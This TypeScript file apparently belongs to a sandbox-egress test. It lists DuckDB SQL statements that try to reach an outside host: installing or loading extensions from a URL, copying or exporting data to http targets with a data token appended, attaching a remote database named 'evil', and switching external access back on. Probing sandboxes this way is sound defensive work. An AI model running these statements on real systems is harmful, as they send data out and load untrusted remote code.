import type { Target } from './channel.ts';

/** Statements that try to leave through the engine, by name. */
export const sqlChannels = (U: Target): (readonly [id: string, statement: string])[] => [
  ['httpfs by name', 'INSTALL httpfs; LOAD httpfs;'],
  ['custom repository', `SET custom_extension_repository='${U.h}/ext'; INSTALL json; LOAD json;`],
  ['INSTALL FROM url', `INSTALL spatial FROM '${U.h}/ext'`],
  ['LOAD url', `LOAD '${U.h}/x.duckdb_extension.wasm'`],
  ['read_csv http', `SELECT * FROM read_csv('${U.h}/r.csv?${U.d}')`],
  ['read_text http', `SELECT * FROM read_text('${U.h}/r.txt?${U.d}')`],
  ['read_blob glob', `SELECT * FROM read_blob('${U.h}/*.csv')`],
  ['FROM url', `FROM '${U.h}/f.csv?${U.d}'`],
  ['FROM url.parquet', `FROM '${U.h}/f.parquet?${U.d}'`],
  ['ATTACH http', `ATTACH '${U.h}/db.duckdb?${U.d}' AS evil (READ_ONLY)`],
  ['COPY TO http', `COPY (SELECT 42 AS x) TO '${U.h}/copy.csv?${U.d}'`],
  ['COPY FROM http', `CREATE TABLE IF NOT EXISTS tt(a INT); COPY tt FROM '${U.h}/cf.csv?${U.d}'`],
  ['EXPORT DATABASE http', `EXPORT DATABASE '${U.h}/exp'`],
  ['IMPORT DATABASE http', `IMPORT DATABASE '${U.h}/imp'`],
  ['s3 url', `SELECT * FROM read_csv('s3://bucket.${U.dns}/x.csv')`],
  ['autoload by function (json)', `SELECT json_extract('{"a":1}','$.a')`],
  ['autoload by function (icu)', `SELECT timezone('Asia/Tokyo', now())`],
  ['autoload by setting', `SET s3_region='x'`],
  ['read_parquet autoload', `SELECT * FROM read_parquet('x.parquet')`],
  ['SET home/extension directory', `SET extension_directory='${U.h}/ext'`],
  ['unlock', 'SET enable_external_access=true'],
  ['unlock autoload', 'SET autoload_known_extensions=true; SET autoinstall_known_extensions=true'],
  ['PRAGMA log to http', `SET log_query_path='${U.h}/log'`],
  ['temp directory http', `SET temp_directory='${U.h}/tmp'`],
];
